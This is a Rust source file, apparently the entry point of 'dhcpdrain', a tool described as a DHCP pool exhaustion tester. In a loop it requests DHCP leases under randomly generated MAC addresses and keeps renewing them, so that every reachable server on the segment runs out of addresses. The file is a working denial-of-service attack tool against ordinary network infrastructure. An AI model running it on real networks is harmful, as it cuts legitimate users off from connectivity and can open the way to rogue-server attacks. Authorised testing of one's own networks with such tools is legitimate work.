//! Entry point: bring up the interface, then alternate forever between the
//! renewal sweep and one more acquisition under a fresh synthetic MAC.

use std::process::ExitCode;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use clap::Parser;
use rand::Rng;

use dhcpdrain::dhcp::client::{self, REQUEST_RETRIES, REQUEST_TIMEOUT};
use dhcpdrain::iface::Interface;
use dhcpdrain::lease::{unix_now, LeaseRegistry};
use dhcpdrain::txn::Transactor;
use dhcpdrain::{DhcpError, MacAddr};

/// Max. leases to renew in one sweep.
const MAX_RENEW_LEASES: usize = 100;

/// Vendor prefix for the synthetic hardware addresses.
const MAC_VENDOR_PREFIX: [u8; 3] = [0x00, 0x16, 0x36];

#[derive(Parser, Debug)]
#[command(
    name = "dhcpdrain",
    version,
    about = "DHCP pool exhaustion tester",
    long_about = "Repeatedly acquires DHCP leases under synthetic hardware addresses \
                  and keeps them renewed, draining the address pool of every \
                  reachable server on the segment."
)]
struct Opts {
    /// Interface name
    #[arg(short = 'i', long = "iface", value_name = "IFNAME")]
    iface: String,

    /// Ignore replies from server with address ADDRESS
    #[arg(short = 'e', long = "exclude", value_name = "ADDRESS")]
    exclude: Option<std::net::Ipv4Addr>,

    /// Do not set network interface to promiscuous mode
    #[arg(short = 'p', long = "no-promisc")]
    no_promisc: bool,

    /// Verbose output
    #[arg(short = 'v', long = "verbose")]
    verbose: bool,
}

/// Random hardware address under the fixed vendor prefix.
fn generate_mac() -> MacAddr {
    let mut mac = [0_u8; 6];
    mac[..3].copy_from_slice(&MAC_VENDOR_PREFIX);
    let random_value: u32 = rand::rng().random();
    mac[3..].copy_from_slice(&random_value.to_le_bytes()[..3]);
    MacAddr::new(mac)
}

fn run(opts: &Opts) -> Result<(), DhcpError> {
    let stop = Arc::new(AtomicBool::new(false));
    for signal in [
        signal_hook::consts::SIGTERM,
        signal_hook::consts::SIGINT,
        signal_hook::consts::SIGQUIT,
    ] {
        signal_hook::flag::register(signal, Arc::clone(&stop)).map_err(|e| {
            DhcpError::new(
                dhcpdrain::ErrorKind::InvalidArgument,
                format!("can not set up signal handler: {e}"),
            )
        })?;
    }

    let iface = Interface::open(&opts.iface, !opts.no_promisc)?;
    let txn = Transactor::new(&iface, opts.exclude.map(Into::into));
    let mut registry = LeaseRegistry::new();

    while !stop.load(Ordering::Relaxed) {
        registry.sweep_renewals(unix_now(), MAX_RENEW_LEASES, |lease| {
            if stop.load(Ordering::Relaxed) {
                return None;
            }
            match client::renew_lease(&txn, lease, REQUEST_TIMEOUT, REQUEST_RETRIES) {
                Ok(renewed) => Some(renewed),
                Err(e) => {
                    log::error!("renewing lease for {}: {e}", lease.mac);
                    Some(false)
                }
            }
        });
        if stop.load(Ordering::Relaxed) {
            break;
        }

        let lease = registry.create(generate_mac());
        if let Err(e) = client::request_lease(&txn, lease, REQUEST_TIMEOUT, REQUEST_RETRIES) {
            log::error!("requesting lease for {}: {e}", lease.mac);
        }
    }

    registry.clear();
    log::debug!("exit");
    Ok(())
}

fn main() -> ExitCode {
    let opts = Opts::parse();

    env_logger::Builder::new()
        .filter_level(if opts.verbose {
            log::LevelFilter::Debug
        } else {
            log::LevelFilter::Info
        })
        .parse_default_env()
        .init();

    match run(&opts) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            log::error!("{e}");
            ExitCode::FAILURE
        }
    }
}
